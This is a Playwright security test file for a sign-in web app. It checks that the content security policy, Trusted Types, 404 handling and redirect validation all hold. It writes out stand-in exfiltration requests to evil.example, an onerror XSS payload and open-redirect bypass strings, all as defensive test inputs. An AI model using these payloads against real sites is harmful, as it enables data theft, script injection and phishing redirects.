import { demoPassword, demoPeople } from '@gatehouse/bff/demo/people'
import { type Browser, chromium, type Page } from '@playwright/test'
import { chromiumArgs, findOrGetChromium } from '../../scripts/chromium.ts'
import { openBehindTls } from '../fixtures/behind-tls.ts'
import { expect, test } from '../fixtures/test.ts'
import { SignInPage } from '../pages/sign-in-page.ts'
import type { Stack } from '../stack/stack.ts'

test.use({ stackFor: 'pages that are attacked' })

/** A page of ours in a browser of its own, whose noise is what the test is about. */
const openPage = async (browser: Browser, stack: Stack, path = '/sign-in'): Promise<Page> => {
  const context = await browser.newContext({ baseURL: stack.url })
  const page = await context.newPage()
  await page.goto(path)
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible()
  return page
}

test('HD01 what the policy stops goes nowhere, and the browser reports it to the server', async ({
  browser,
  stack,
}) => {
  const page = await openPage(browser, stack)
  const asked: string[] = []
  page.on('requestfinished', (request) => asked.push(request.url()))
  await stack.takeReports()
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/stolen?by=image'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/frame'
    document.body.append(frame)
    fetch('https://evil.example/stolen?by=fetch').catch(() => undefined)
    const form = document.createElement('form')
    form.action = 'https://evil.example/form'
    form.method = 'post'
    document.body.append(form)
    form.submit()
  })
  let reports = 0
  await expect.poll(async () => (reports += await stack.takeReports())).toBeGreaterThanOrEqual(4)
  expect(asked.filter((url) => !url.startsWith(stack.url))).toEqual([])
  await page.context().close()
})

test('HD01 behind TLS the browser reports to the endpoint that the page names', async () => {
  test.slow()
  const house = await openBehindTls()
  // The certificate is of nobody a browser trusts, and by themselves browsers gather reports for a minute.
  const args = [...chromiumArgs, '--ignore-certificate-errors', '--short-reporting-delay']
  const browser = await chromium.launch({ executablePath: await findOrGetChromium(), args })
  try {
    const page = await browser.newPage({ ignoreHTTPSErrors: true })
    const answer = await page.goto(`${house.url}/sign-in`)
    expect(answer?.headers()['reporting-endpoints']).toBe('csp="/browser-reports"')
    await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible()
    expect(house.reports(), 'our own page violates nothing').toBe(0)
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/stolen'
    })
    await expect.poll(house.reports, { timeout: 30_000 }).toBe(1)
  } finally {
    await browser.close()
    await house.close()
  }
})

test('HD02 markup never becomes elements and text never becomes code, while the page works', async ({
  browser,
  stack,
}) => {
  const page = await openPage(browser, stack)
  const sinks = await page.evaluate(
    () =>
      // In a timer: what is evaluated for a debugger may do more than a page.
      new Promise<Record<string, string>>((done) =>
        setTimeout(() => {
          const markup = '<img src=x onerror="globalThis.ran = 1">'
          const tries: Record<string, () => unknown> = {
            innerHTML: () => (document.body.innerHTML = markup),
            outerHTML: () => (document.body.outerHTML = markup),
            insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', markup),
            'document.write': () => document.write(markup),
            'DOMParser.parseFromString': () => new DOMParser().parseFromString(markup, 'text/html'),
            createContextualFragment: () => document.createRange().createContextualFragment(markup),
            'iframe.srcdoc': () => (document.createElement('iframe').srcdoc = markup),
            'script.src': () => (document.createElement('script').src = '/colour-scheme.js?x'),
            'script.text': () => (document.createElement('script').text = 'globalThis.ran = 2'),
            'script.textContent': () => (document.createElement('script').textContent = 'globalThis.ran = 3'),
            // biome-ignore lint/security/noGlobalEval: that it throws is what is tested
            eval: () => eval('globalThis.ran = 4'),
            Function: () => new Function('globalThis.ran = 5')(),
            'setTimeout of a text': () => setTimeout('globalThis.ran = 6' as unknown as () => void, 0),
            Worker: () => new Worker('data:text/javascript,1'),
            'another policy': () =>
              (
                globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
              ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
          }
          const outcome = Object.entries(tries).map(([name, attempt]): [string, string] => {
            try {
              attempt()
              return [name, 'was let through']
            } catch (thrown) {
              return [name, thrown instanceof Error ? thrown.name : 'threw']
            }
          })
          const plain = document.createElement('style')
          plain.innerHTML = 'body { --plain: 1 }'
          setTimeout(
            () => done({ ...Object.fromEntries(outcome), ran: String((globalThis as { ran?: number }).ran) }),
            50,
          )
        }, 0),
      ),
  )
  const { ran, ...outcomes } = sinks
  expect(ran).toBe('undefined')
  for (const [name, outcome] of Object.entries(outcomes)) expect(outcome, name).toMatch(/^(TypeError|EvalError)$/)
  await page.getByRole('link', { name: 'Forgot your password?' }).click()
  await expect(page.getByRole('button', { name: 'Send me a link' })).toBeVisible()
  let reports = 0
  await expect.poll(async () => (reports += await stack.takeReports())).toBeGreaterThanOrEqual(10)
  await page.context().close()
  await stack.takeReports()
})

test('HD09 an address that leads nowhere is answered 404, and says so on a page of ours', async ({ as, stack }) => {
  const { page } = await as('auditor')
  for (const path of ['/metrics', '/devices/a/b/c', '/wp-admin']) {
    const answer = await page.goto(path)
    expect(answer?.status(), path).toBe(404)
    await expect(page.getByText('There is no such page.')).toBeVisible()
  }
  for (const path of ['/.git/config', '/assets/index.js.map', '/.env'])
    expect((await page.context().request.get(path)).status(), path).toBe(404)
  expect((await page.goto(`/devices/${stack.seeded.devices['Balance 7']}/overview`))?.status()).toBe(200)
})

/** More of them are tried without a browser, in web/src/kernel/paths.test.ts. */
const elsewhere = [
  'https://evil.example/',
  '//evil.example/fleet',
  '/\\evil.example',
  '/\t/evil.example',
  'javascript:globalThis.ran=1//',
  '/.//evil.example',
]

test('HD10 signing in leads nowhere but to pages of ours, whatever the address asks for', async ({ as, stack }) => {
  const { page } = await as('reader', { signIn: false })
  const door = new SignInPage(page)
  const left: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(stack.url)) left.push(request.url())
  })
  for (const to of elsewhere) {
    await page.context().clearCookies()
    await page.goto(`/sign-in?to=${encodeURIComponent(to)}`)
    await door.password(demoPeople.reader.email, demoPassword('reader'))
    await door.passkey()
    await expect(page, to).toHaveURL(`${stack.url}/fleet`)
  }
  expect(left).toEqual([])
})
